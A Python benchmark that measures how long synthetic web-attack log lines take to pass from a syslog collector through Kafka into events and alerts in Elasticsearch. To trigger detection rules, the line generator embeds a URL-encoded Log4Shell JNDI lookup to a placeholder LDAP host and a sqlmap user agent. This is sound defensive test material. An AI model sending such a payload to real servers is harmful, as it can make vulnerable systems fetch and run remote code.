"""From a line at the collector's syslog port to its event and its alert in Elasticsearch: one line a second.

Processes as in life: ``soc-collector`` with a TCP input that sends to Kafka, ``soc stream``, Elasticsearch, with the
settings' defaults. Each line is an attack on a web server from an address of its own, so each makes an event and an
alert of a rule on one event. The clock starts before the line is written to the socket. "stored" is when a realtime
GET finds the document, "searchable" when a search does, which waits for a refresh (2 s in our templates). Kafka's own
stamps say where the time goes. ``python -m tests.bench.stream_latency [LINES]``.
"""

from __future__ import annotations

import asyncio
import os
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path

import msgspec
from aiokafka import AIOKafkaConsumer, TopicPartition
from elasticsearch import ApiError, Elasticsearch

from soc.core.event import RawBatch
from soc.core.ids import id_of
from soc.core.settings import Settings, SyslogInput
from soc.core.wire import ALERTS, EVENTS, RAW, SIGNALS, topic
from soc.engines.stream.archive import Events, StoredAlert
from soc.pipeline.build import build_pipeline
from soc.pipeline.content import load_content
from soc.pipeline.signal import decode_signal
from soc.stores import elasticsearch_names as names
from soc.stores.elasticsearch_client import connect
from soc.story import INVENTORY
from tests.bench.stream_rig import Measured, Servers, servers
from tests.services.fleet import ZONE, until
from tests.services.kafka_server import free_port

LINES = 130
FIRST = 10
"""Lines that do not count: Elasticsearch makes indices, rules are compiled."""
EVERY = 1.0
POLL = 0.02
PATIENCE = 30.0
STEPS = ("raw in Kafka", "events in Kafka", "event stored", "event searchable", "signal in Kafka", "alert in Kafka",
         "alert stored", "alert searchable")  # fmt: skip


@dataclass
class Sent:
    """A line; at: step -> seconds after it was handed to the collector."""

    text: bytes
    since: float
    event: str
    alert: str
    at: dict[str, float] = field(default_factory=dict)


def run(lines: int = LINES) -> None:
    """Prints p50, p99 and the most for each step."""
    with tempfile.TemporaryDirectory(prefix="soc-bench-") as name, servers(Path(name)) as at:
        sent = asyncio.run(trickle(Path(name) / "fleet", at, lines))
    print_steps(sent)


def print_steps(sent: Sequence[Sent]) -> None:
    print(f"{'ms after the line was sent':28}{'lines':>6}{'p50':>8}{'p90':>8}{'p99':>8}{'most':>8}")
    for step in STEPS:
        times = sorted(one.at[step] for one in sent if step in one.at)
        if times:
            p50, p90, p99 = (times[min(len(times) - 1, int(len(times) * share))] * 1000 for share in (0.5, 0.9, 0.99))
            print(f"{step:28}{len(times):6}{p50:8.0f}{p90:8.0f}{p99:8.0f}{times[-1] * 1000:8.0f}")


async def trickle(folder: Path, at: Servers, lines: int) -> list[Sent]:
    """Sends the lines and follows each to its end."""
    namespace = "trickle"
    elastic = at.elasticsearch.settings(namespace)
    fleet = Measured(folder, at.kafka.servers, elastic, namespace, hold="10m", lateness="10s")
    await fleet.prepare()
    port = free_port()
    client = connect(elastic)
    collector = None
    try:
        fleet.start()
        await until(fleet.whole, 120, "the worker did not start")
        collector = _collector(folder, fleet.settings, port)
        pipeline = build_pipeline(load_content(), INVENTORY, zone=ZONE)
        sent: list[Sent] = []
        with await asyncio.to_thread(_connected, port) as connection:
            following = []
            begun = time.monotonic()
            for number in range(lines + FIRST):
                await asyncio.sleep(max(0.0, begun + number * EVERY - time.monotonic()))
                text = _line(number)
                outcome = pipeline.feed(RawBatch("c1/tcp:127.0.0.1", "auto", time.time_ns() // 1000, number, (text,)))
                one = Sent(text, time.time(), id_of(outcome.events[0]), outcome.alerts[0].id)
                connection.sendall(text + b"\n")
                where = names.stream(*names.place(outcome.events[0], namespace))
                following.append(asyncio.create_task(_follow(client, one, "event", one.event, where)))
                following.append(asyncio.create_task(_follow(client, one, "alert", one.alert, names.alerts(namespace))))
                sent.append(one)
            await asyncio.gather(*following)
        assert len({one.alert for one in sent}) == len(sent)
        await _stamps(fleet, {one.event: one for one in sent}, {one.alert: one for one in sent})
        return sent[FIRST:]
    finally:
        if collector is not None:
            collector.send_signal(signal.SIGTERM)
            collector.wait(20)
        client.close()
        await fleet.close()


def _line(number: int) -> bytes:
    now = datetime.now(timezone(timedelta(seconds=ZONE))).strftime("%d/%b/%Y:%H:%M:%S %z")
    address = f"198.18.{number // 250}.{number % 250 + 1}"
    # By turns, since from 100 addresses on a rule's alerts are folded into one
    attack, agent = ("", "sqlmap/1.8") if number % 2 else ("%24%7Bjndi:ldap://x.example/a%7D", "Mozilla/5.0")
    request = f"GET /tim-kiem?n={number}&q=a{attack} HTTP/1.1"
    return f'{address} - - [{now}] "{request}" 404 162 "-" "{agent}"'.encode()


def _collector(folder: Path, settings: Settings, port: int) -> subprocess.Popen[bytes]:
    own = msgspec.structs.replace(
        settings, name="c1", data_dir=str(folder / "collector"), inputs=(SyslogInput("tcp", port, framing="newline"),)
    )
    file = folder / "collector.yml"
    file.write_bytes(msgspec.yaml.encode(own))
    with (folder / "collector.log").open("wb") as log:
        return subprocess.Popen(
            [sys.executable, "-m", "collectors", "--settings", str(file)],
            stdin=subprocess.DEVNULL,
            stdout=log,
            stderr=log,
            env=os.environ | {"PYTHONPATH": os.pathsep.join(sys.path)},
        )


def _connected(port: int) -> socket.socket:
    end = time.monotonic() + 30
    while True:
        try:
            return socket.create_connection(("127.0.0.1", port))
        except OSError:
            if time.monotonic() > end:
                raise
            time.sleep(0.1)


async def _follow(client: Elasticsearch, one: Sent, what: str, id: str, where: str) -> None:
    def stored() -> bool:
        index = _backing(client, where)
        return bool(index) and bool(client.exists(index=index, id=id, realtime=True, source=False))

    def searchable() -> bool:
        found = client.search(index=where, query={"ids": {"values": [id]}}, size=0, ignore_unavailable=True)
        return bool(found["hits"]["total"]["value"])

    for word, condition in (("stored", stored), ("searchable", searchable)):
        end = time.time() + PATIENCE
        while not await asyncio.to_thread(_quietly, condition):
            if time.time() > end:
                return
            await asyncio.sleep(POLL)
        one.at[f"{what} {word}"] = time.time() - one.since


def _quietly(condition: Callable[[], bool]) -> bool:
    try:
        return condition()
    except ApiError:  # there is no index yet, or it is being made
        return False


_indices: dict[str, str] = {}


def _backing(client: Elasticsearch, name: str) -> str:
    """The index behind a data stream, which a GET needs; "" while there is none."""
    if name not in _indices:
        found = client.indices.resolve_index(name=name)
        streams = [one["backing_indices"] for one in found["data_streams"]] + [one["name"] for one in found["indices"]]
        if not streams:
            return ""
        first = streams[0]
        _indices[name] = first if isinstance(first, str) else first[-1]
    return _indices[name]


async def _stamps(fleet: Measured, events: dict[str, Sent], alerts: dict[str, Sent]) -> None:
    """When Kafka took each record, by its own clock, which is this machine's."""
    texts = {one.text: one for one in events.values()}
    consumer = AIOKafkaConsumer(bootstrap_servers=fleet.servers, max_partition_fetch_bytes=4 << 20)
    await consumer.start()
    try:
        for kind in (RAW, EVENTS, SIGNALS, ALERTS):
            tps = [TopicPartition(topic(fleet.prefix, kind), n) for n in range(fleet.partitions)]
            consumer.assign(tps)
            await consumer.seek_to_beginning(*tps)
            ends = await consumer.end_offsets(tps)
            while any([await consumer.position(tp) < ends[tp] for tp in tps]):
                for records in (await consumer.getmany(*tps, timeout_ms=500)).values():
                    for record in records:
                        _stamp(kind, record.timestamp / 1000, record.value, texts, events, alerts)
    finally:
        await consumer.stop()


def _stamp(
    kind: str, when: float, value: bytes, texts: dict[bytes, Sent], events: dict[str, Sent], alerts: dict[str, Sent]
) -> None:
    step, found = "", []
    if kind == RAW:
        step, found = "raw in Kafka", [one for text, one in texts.items() if text in value]
    elif kind == EVENTS:
        rows = msgspec.msgpack.decode(value, type=Events).rows
        step, found = "events in Kafka", [events[id] for _, id, _ in rows if id in events]
    elif kind == SIGNALS:
        hits = decode_signal(value).hits
        step, found = "signal in Kafka", [events[id] for _, event in hits if (id := id_of(event)) in events]
    else:
        id = msgspec.json.decode(msgspec.msgpack.decode(value, type=StoredAlert).alert)["id"]
        step, found = "alert in Kafka", [alerts[id]] if id in alerts else []
    for one in found:
        one.at.setdefault(step, when - one.since)


if __name__ == "__main__":
    run(int(sys.argv[1]) if len(sys.argv) > 1 else LINES)
